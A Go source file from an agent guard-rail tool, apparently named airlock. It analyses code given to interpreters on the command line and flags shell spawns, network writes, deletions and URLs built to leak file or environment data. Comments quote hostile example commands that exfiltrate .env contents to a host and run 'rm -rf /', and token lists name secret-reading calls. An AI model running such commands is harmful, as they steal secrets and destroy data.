// Package interp reads code given to an interpreter on its command line or
// on its standard input (python -c, node -e, ruby -e, perl -e, php -r,
// lua -e, Rscript -e, osascript -e) and reports what it found: shell text
// it runs, programs it spawns, network reads and writes, file deletion,
// and what it does in a way that cannot be read. It knows languages, not
// programs: it does not decide what a spawned command does, nor how far
// an effect reaches. Package classify owns that and maps each Finding onto
// its effects, so this package imports nothing of classify's.
//
// The reader is deliberately small: a lexer that finds string literals and
// comments, so that names inside strings are not mistaken for calls, and a
// call finder that reads the arguments of a named call when they are
// literals. It is a guard rail against a confused agent, not a parser for
// hostile code. One file per language; lex.go and calls.go are shared.
//
// Two more languages are read by regular expressions rather than the
// lexer, and report in their own types: awk programs (awk.go: the
// commands of system() and of pipes) and PowerShell text (powershell.go:
// web requests, process starts, statements that may run a program).
// Classify decides which of their commands name a program it knows.
package interp

import (
	"strings"

	"github.com/airlock-dev/airlock/internal/shell"
)

// Kind says what a Finding is.
type Kind uint8

// The kinds of findings.
const (
	// Opaque: the code does something that cannot be read (a process
	// spawned from text built at run time, code evaluated from a
	// variable, code the lexer could not read).
	Opaque Kind = iota
	// Write: the code writes beyond the machine (an HTTP write, mail, a
	// socket it opens); Destroys marks a remote deletion.
	Write
	// Delete: the code deletes local files.
	Delete
	// Install: the code installs packages from the network.
	Install
	// Spawn: the code runs Text as shell text (a list of words is joined
	// and quoted as shell text).
	Spawn
	// Eval: the code evaluates literal code, read into Sub.
	Eval
	// Relink: the code moves files or makes links (relink.go); nothing
	// beyond the machine, nothing deleted.
	Relink
)

// Finding is one thing the code does, in the order the reader found it.
type Finding struct {
	Kind Kind
	// Rule and Message explain the finding, for the agent and the human.
	Rule, Message string
	// Destroys marks a Write that deletes beyond the machine.
	Destroys bool
	// Text is the shell text a Spawn runs.
	Text string
	// Sub is what an Eval's code does.
	Sub *Result
}

// Result is what one piece of code does.
type Result struct {
	// Findings in the order they were found.
	Findings []Finding
	// Reads names what the code fetches from the network (call and host),
	// for one network-read reason when nothing stronger holds the code.
	Reads []string
	// ShellText is set when the code looks like shell text rather than
	// code (node -e "rm -rf /"): no language reads it, so nothing runs,
	// but the caller may hold it as the command it spells when no finding
	// was made.
	ShellText string
}

// maxEval bounds how deep code passed to eval() of a literal is read.
const maxEval = 3

// interpScan reads one piece of code.
type interpScan struct {
	who    string // the interpreter, for messages
	code   *interpCode
	r      *Result
	hid    bool // an Opaque finding was made
	spawns int  // process-spawning calls understood
	depth  int
}

// Analyse reads code in a language (one of the Lang constants), run by
// the interpreter who (named in messages). A language it does not know is
// lexed but yields no findings.
func Analyse(who, lang, src string) *Result {
	return analyse(who, lang, src, 0)
}

func analyse(who, lang, src string, depth int) *Result {
	s := &interpScan{who: who, code: interpLex(lang, src), r: &Result{}, depth: depth}
	if s.code.broken != "" {
		s.hide("interp.unreadable", who+" code has "+s.code.broken+", so what it does cannot be read")
	}
	switch lang {
	case Python:
		s.python()
	case JavaScript:
		s.javascript()
	case Ruby:
		s.ruby()
	case Perl:
		s.perl()
	case PHP:
		s.php()
	case Lua:
		s.lua()
	case R:
		s.rlang()
	case AppleScript:
		s.applescript()
	}
	s.sockets(lang) // sockets.go
	s.relink()      // relink.go
	s.shellShaped(lang)
	return s.r
}

// add records a finding.
func (s *interpScan) add(f Finding) { s.r.Findings = append(s.r.Findings, f) }

// hide records that the code does something that cannot be read.
func (s *interpScan) hide(rule, msg string) {
	s.hid = true
	s.add(Finding{Kind: Opaque, Rule: rule, Message: msg})
}

// write records a write beyond the machine.
func (s *interpScan) write(rule, msg string) { s.add(Finding{Kind: Write, Rule: rule, Message: msg}) }

// read records a network read by a call.
func (s *interpScan) read(call interpCall) {
	t := call.recv
	if t != "" {
		t += "."
	}
	t += call.name
	if l, ok := call.literal(0); ok {
		t += " " + Host(l.val)
	}
	if u, ok := s.builtURL(call); ok {
		// FINDINGS-5 L12: the shape of curl "http://h/?q=$(cat .env)".
		s.write("interp.net.exfil", s.who+" code fetches a URL built at run time ("+Clip(u)+") and reads a file or the environment: the URL carries that data out")
		return
	}
	s.r.Reads = append(s.r.Reads, Clip(t))
}

// builtURL returns the first argument of a fetch when it is a URL built
// at run time (a literal "http://…" joined to or interpolating an
// expression) in code that reads a file or the environment, which the
// URL may then carry.
func (s *interpScan) builtURL(call interpCall) (string, bool) {
	if len(call.args) == 0 {
		return "", false
	}
	a := call.args[0]
	built := a.lit == nil && strings.Contains(a.text, "://") || a.lit != nil && a.lit.interp && strings.Contains(a.lit.val, "://")
	if !built {
		return "", false
	}
	for _, tok := range []string{"open(", "file_get_contents(", "fopen(", "file(", "readFileSync", "readFile(", "readTextFile",
		"File.read", "IO.read", "read_file", "readLines(", "readline", "io.open", "io.lines", "slurp", "getenv", "environ",
		"ENV[", "process.env", "Deno.env", "$_ENV", "Path(", "Bun.file"} {
		n := strings.Count(s.code.src, tok)
		if tok == call.name+"(" {
			n-- // the fetch itself (file_get_contents of the URL)
		}
		if n > 0 {
			return a.text, true
		}
	}
	// A program's output read at run time (FINDINGS-6 F9: perl's
	// get("http://h/".`cat .env`)): backticks are a program's output in
	// Perl, Ruby and PHP (in JavaScript they are template text).
	for _, tok := range []string{"qx(", "qx{", "qx/", "qx[", "qx'", "qx|", "readpipe", "popen", "check_output", "getoutput", "execSync", "spawnSync", "shell_exec", "%x("} {
		if strings.Contains(s.code.src, tok) {
			return a.text, true
		}
	}
	if (s.code.lang == Perl || s.code.lang == Ruby || s.code.lang == PHP) && strings.Contains(s.code.src, "`") {
		return a.text, true
	}
	return "", false
}

// target renders the first argument of a call for a message.
func (s *interpScan) target(call interpCall, fallback string) string {
	if l, ok := call.literal(0); ok {
		return Clip(l.val)
	}
	if len(call.args) > 0 {
		return Clip(call.args[0].text)
	}
	return fallback
}

// destroy records file deletion.
func (s *interpScan) destroy(call interpCall) {
	fn := call.name
	if call.recv != "" && call.recv != ")" {
		fn = call.recv + "." + fn
	}
	s.add(Finding{Kind: Delete, Rule: "interp.delete", Message: s.who + " code deletes " + s.target(call, "files") + " (" + fn + ")"})
}

// spawnText records shell text the code runs.
func (s *interpScan) spawnText(text string) {
	s.spawns++
	s.add(Finding{Kind: Spawn, Rule: "interp.spawn", Message: s.who + " code runs the shell command: " + Clip(text), Text: text})
}

// spawnArgv classifies a program run from a list of words.
func (s *interpScan) spawnArgv(words []string) {
	if len(words) == 0 {
		s.hide("interp.spawn.dynamic", s.who+" code runs a program from an empty or unreadable list")
		return
	}
	s.spawnText(shell.Join(words))
}

// spawnCall rates a call that runs its first argument: shell text when it
// is a string, a program and its arguments when it is a list of strings.
func (s *interpScan) spawnCall(call interpCall) {
	switch {
	case !call.called:
		s.hide("interp.spawn.ref", s.who+" code uses "+call.name+" without a plain call, so what it runs cannot be known")
	case len(call.args) == 0:
		s.hide("interp.spawn.dynamic", s.who+" code calls "+call.name+" with no argument airlock can read")
	case call.args[0].lit != nil:
		s.spawnText(call.args[0].lit.val)
	case call.args[0].isList:
		s.spawnArgv(call.args[0].list)
	default:
		s.hide("interp.spawn.dynamic", s.who+" code runs "+call.name+"("+Clip(call.argText())+"), a command only known at run time")
	}
}

// spawnWords rates a call whose arguments are a program and its arguments
// (Ruby's and Perl's system with several strings, Node's execFile): every
// argument must be a literal or a list of literals.
func (s *interpScan) spawnWords(call interpCall, args []interpArg) {
	if len(args) == 1 {
		call.args = args
		s.spawnCall(call)
		return
	}
	var words []string
	for _, a := range args {
		switch {
		case a.lit != nil && !a.lit.interp:
			words = append(words, a.lit.val)
		case a.isList:
			words = append(words, a.list...)
		case strings.HasPrefix(strings.TrimSpace(a.text), "{"):
			// Options or environment (a hash or object literal).
		default:
			s.hide("interp.spawn.dynamic", s.who+" code runs "+call.name+"("+Clip(call.argText())+"), a command only known at run time")
			return
		}
	}
	s.spawnArgv(words)
}

// evalCode rates code that the code itself evaluates: read when literal,
// opaque otherwise.
func (s *interpScan) evalCode(call interpCall) {
	if !call.called || len(call.args) == 0 {
		return
	}
	l, ok := call.literal(0)
	if !ok || l.interp {
		s.hide("interp.eval", s.who+" code evaluates code built at run time ("+call.name+"("+Clip(call.argText())+"))")
		return
	}
	if s.depth >= maxEval {
		s.hide("limit.nesting", "limit reached: code evaluated inside "+s.who+" code nested too deep")
		return
	}
	s.add(Finding{Kind: Eval, Sub: analyse(s.who, s.code.lang, l.val, s.depth+1)})
}

// mentions counts the identifier word in the code outside literals and
// comments.
func (s *interpScan) mentions(word string) int {
	return len(s.code.calls(word))
}

// inImport reports whether offset at lies in an import statement.
func (s *interpScan) inImport(at int) bool {
	m := s.code.masked
	start := strings.LastIndexAny(m[:at], "\n;") + 1
	stmt := strings.TrimLeft(m[start:at], " \t")
	return strings.HasPrefix(stmt, "import ") || strings.HasPrefix(stmt, "from ")
}

// keyValue finds "key: value" (or "key => value", "key = value") inside an
// argument and returns the offset of the value.
func (s *interpScan) keyValue(a interpArg, key string) (int, bool) {
	m := s.code.masked
	src := s.code.src
	for from := a.start; from < a.end; {
		k := strings.Index(src[from:a.end], key)
		if k < 0 {
			return 0, false
		}
		at := from + k
		from = at + len(key)
		if at > 0 && isIdentByte(src[at-1]) || at+len(key) < len(src) && isIdentByte(src[at+len(key)]) {
			continue
		}
		p := at + len(key)
		if p < len(src) && (src[p] == '\'' || src[p] == '"') {
			p++ // a quoted key
		}
		for p < a.end && (m[p] == ' ' || m[p] == '\t' || m[p] == '\n') {
			p++
		}
		switch {
		case strings.HasPrefix(m[p:], "=>"):
			p += 2
		case p < a.end && (m[p] == ':' || m[p] == '='):
			p++
		case p < a.end && (m[p] == ',' || m[p] == '}'):
			return p, true // shorthand {body}
		default:
			continue
		}
		for p < a.end && (m[p] == ' ' || m[p] == '\t' || m[p] == '\n') {
			p++
		}
		return p, true
	}
	return 0, false
}

// keyLit returns the literal value of key inside an argument; found is true
// when the key is present, even with a value that is not a literal.
func (s *interpScan) keyLit(a interpArg, key string) (*interpLit, bool) {
	p, ok := s.keyValue(a, key)
	if !ok {
		return nil, false
	}
	if i, ok := s.code.litAt[p]; ok {
		return &s.code.lits[i], true
	}
	return nil, true
}

// keyList returns the list literal value of key inside an argument.
func (s *interpScan) keyList(a interpArg, key string) ([]string, bool) {
	p, ok := s.keyValue(a, key)
	if !ok || p >= len(s.code.masked) || s.code.masked[p] != '[' {
		return nil, false
	}
	_, end := s.code.splitArgs(p+1, true)
	arg := s.code.argAt(p, end+1)
	return arg.list, arg.isList
}

// httpMethod rates an HTTP request by its method literal; a method that is
// not a literal cannot be known.
func (s *interpScan) httpMethod(l *interpLit, call interpCall) {
	if l == nil || l.interp {
		s.hide("interp.net.dynamic", s.who+" code sends an HTTP request whose method is only known at run time")
		return
	}
	if ReadMethod(l.val) {
		s.read(call)
		return
	}
	s.write("interp.net.write", s.who+" code sends an HTTP "+strings.ToUpper(l.val)+" request")
}

// interpHTTPClient reports whether a receiver looks like an HTTP client, so
// that its post/put/delete methods send requests (and a queue's put does
// not).
func interpHTTPClient(recv string) bool {
	chain := strings.ToLower(recv)
	for _, part := range []string{"lwp", "useragent", "http::", "mechanize", "furl"} {
		if strings.Contains(chain, part) {
			return true
		}
	}
	r := strings.TrimLeft(chain, "$@")
	if k := strings.LastIndexAny(r, ".:>"); k >= 0 {
		r = r[k+1:]
	}
	switch r {
	case "s", "ua", "c", "r", "ky", "got", "axios", "needle", "superagent", "agent", "mech", "furl", "faraday",
		"httparty", "restclient", "excon", "typhoeus", "conn", "connection", "tiny", "lwp", "guzzle", "req", "aiohttp":
		return true
	}
	for _, part := range []string{"http", "session", "client", "request", "api", "browser", "useragent"} {
		if strings.Contains(r, part) {
			return true
		}
	}
	return false
}

// shellShaped notes code that is not code at all but shell text (node -e
// "rm -rf /"): a command that would be held as shell text is held here
// too rather than waved through. Whether it is a command at all, and what
// it does, is the caller's to say.
func (s *interpScan) shellShaped(lang string) {
	src := strings.TrimSpace(s.code.src)
	if src == "" || strings.ContainsAny(src, "();=") || lang == AppleScript {
		return
	}
	s.r.ShellText = src
}
